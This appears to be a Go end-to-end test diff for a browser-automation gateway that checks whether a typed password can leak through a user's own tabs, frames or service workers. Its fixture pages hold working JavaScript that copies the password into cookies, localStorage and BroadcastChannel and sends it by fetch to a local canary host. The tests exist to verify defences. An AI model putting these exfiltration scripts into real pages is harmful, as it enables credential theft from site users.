@@ -1,0 +1,201 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/browsergate/browsergate/examples/testkit"
+)
+
+// The second attack review of the live user context (issue 31): paths a
+// typed secret or a session page's request could take out through the
+// user's own, unguarded pages and workers. Each runs a user's Chromium, a
+// live session in its default context and the fixture's canary on
+// 127.0.0.2, outside the scope.
+
+// h7SecretManifest is the e2e manifest, live in the user's browser at
+// endpoint, with APP_PASSWORD bound to 127.0.0.1.
+func h7SecretManifest(endpoint string) string {
+	return fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)) + `[secrets.APP_PASSWORD]
+env = "BROWSERGATE_E2E_SECRET"
+domains = ["127.0.0.1"]
+`
+}
+
+// canaryHasSecret fails the test when the canary saw a request, an
+// upgrade or the secret's value.
+func (f *fixture) canaryHasSecret(t *testing.T, what string) {
+	t.Helper()
+	time.Sleep(2 * time.Second)
+	seen := strings.Join(f.net.Seen(), "; ")
+	if f.net.Hits() != 0 || f.net.Upgrades() != 0 {
+		t.Errorf("%s: the canary saw %s", what, f.net)
+	}
+	if strings.Contains(seen, secretValue) {
+		t.Errorf("%s: the canary saw the secret's value", what)
+	}
+	if f.net.Conns() != 0 {
+		t.Logf("%s: the canary saw %d connection(s) (requests %d)", what, f.net.Conns(), f.net.Hits())
+	}
+}
+
+// TestH7SecretBesideAUsersPageOfTheSite: cookies are a host's, not an
+// origin's (no port, no scheme), and a page of one site frames another
+// origin of it with first-party storage. A user's tab on the field's host
+// at another port reads the cookie the field's page writes the value
+// into, and sends it to the canary: type_text must be refused while it
+// is open, naming it.
+func TestH7SecretBesideAUsersPageOfTheSite(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	f := startWith(t, h7SecretManifest(endpoint))
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
+</script>`,
+	})
+	other, _ := serveLogged(t, map[string]string{
+		"/reader": fmt.Sprintf(`<title>reader</title>the user's page of the site at another port<script>
+let sent = '';
+setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== sent) { sent = c; fetch(%q + '?' + c, {mode: 'no-cors'}).catch(() => {}); } }, 100);
+</script>`, f.canaryTo+"/cookie"),
+	})
+	usersTab(t, endpoint, other+"/reader")
+	readerID := f.waitListed(t, "/reader")
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text beside the user's page of the site:\n%s", out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "tab "+readerID) {
+		t.Errorf("type_text was not refused naming the user's tab %s of the field's site", readerID)
+	}
+	f.canaryHasSecret(t, "a user's tab of the field's site")
+}
+
+// TestH7SessionPageReachesTheUsersServiceWorker: a session page loses
+// navigator.serviceWorker (user_context.js), but a frame it makes has a
+// window of its own. A worker the user's browsing registered on the
+// site (the user's tab then closed) is told by the session's page, through
+// a blank frame's navigator and through a blank popup's, to fetch the
+// canary; with a secret typed, the value too.
+func TestH7SessionPageReachesTheUsersServiceWorker(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	f := startWith(t, h7SecretManifest(endpoint))
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/sw.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw")
+		case "/register":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<title>register</title><p id=s>registering</p><script>
+navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.getElementById('s').textContent = 'ready'; });
+</script>`)
+		case "/form":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
+const say = m => document.getElementById('r').append(' ' + m);
+function tell(v) {
+  const fr = document.createElement('iframe'); document.body.append(fr);
+  for (const [how, w] of [['frame', fr.contentWindow], ['popup', window.open('')]]) {
+    try {
+      const c = w && w.navigator.serviceWorker;
+      if (!c) { say(how + ':none'); continue; }
+      c.ready.then(r => { r.active.postMessage(how + ':' + v); say(how + ':posted'); });
+    } catch (e) { say(how + ':' + e); }
+  }
+}
+tell('on-load');
+document.getElementById('pw').addEventListener('input', e => tell(e.target.value));
+</script>`)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	user, cancelUser := chromedp.NewContext(usersBrowser(t, endpoint))
+	if err := chromedp.Do(user, chromedp.Navigate(site+"/register")); err != nil {
+		t.Fatal(err)
+	}
+	testkit.Eventually(t, func() string {
+		s, err := chromedp.Run(user, chromedp.Evaluate[string](`document.getElementById('s').textContent`))
+		if err != nil || s != "ready" {
+			return fmt.Sprintf("the user's service worker is not ready (%q, %v)", s, err)
+		}
+		return ""
+	})
+	cancelUser() // the user closes the tab; the worker stays registered
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	time.Sleep(time.Second)
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
+	f.canaryHasSecret(t, "the session's page telling the user's worker on load")
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text: %s", out)
+	f.canaryHasSecret(t, "the session's page telling the user's worker the secret")
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
+}
+
+// TestH7SecretBesideAUsersFrameOfTheSite: a user's tab of another site
+// (127.0.0.4, outside the scope) frames the field's origin; the frame
+// listens for the value the field's page hands on (a cookie with
+// SameSite=None and Secure, as a loopback page is a secure context,
+// localStorage, BroadcastChannel) and sends what it gets to the canary.
+// Blocked by Chromium, not by the gate: the frame's storage and
+// BroadcastChannel are partitioned by its top-level site, and its cookies
+// are third-party. The test fails if the user's browser ever shares them
+// (a profile allowing third-party cookies, partitioning turned off), and
+// the gate would then have to count the user's frames (OOPIF targets) of
+// the field's site too.
+func TestH7SecretBesideAUsersFrameOfTheSite(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	f := startWith(t, h7SecretManifest(endpoint))
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => {
+  document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/; SameSite=None; Secure';
+  localStorage.setItem('pw', e.target.value);
+  new BroadcastChannel('pw').postMessage(e.target.value);
+});
+</script>`,
+		"/frame": fmt.Sprintf(`<title>frame</title><script>
+fetch(%q, {mode: 'no-cors'}).catch(() => {});
+let sent = '';
+const send = (how, v) => fetch(%q + '?' + how + '=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
+new BroadcastChannel('pw').onmessage = m => send('bc', m.data);
+setInterval(() => {
+  const c = document.cookie + '|' + (localStorage.getItem('pw') || '');
+  if (c !== '|' && c !== sent) { sent = c; send('store', c); }
+}, 100);
+</script>`, spy+"/loaded", f.canaryTo+"/frame"),
+	})
+	other, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
+		"/embed": fmt.Sprintf(`<title>embed</title><iframe src=%q></iframe>`, site+"/frame"),
+	})
+	usersTab(t, endpoint, other+"/embed")
+	// The control: the user's frame runs, and reaches the network.
+	testkit.Eventually(t, func() string {
+		if spyLog.count("/loaded") == 0 {
+			return "the user's frame of the site has not run"
+		}
+		return ""
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text beside the user's frame of the site (refused %v):\n%s", refused, out)
+	f.canaryHasSecret(t, "a user's frame of the field's site")
+}
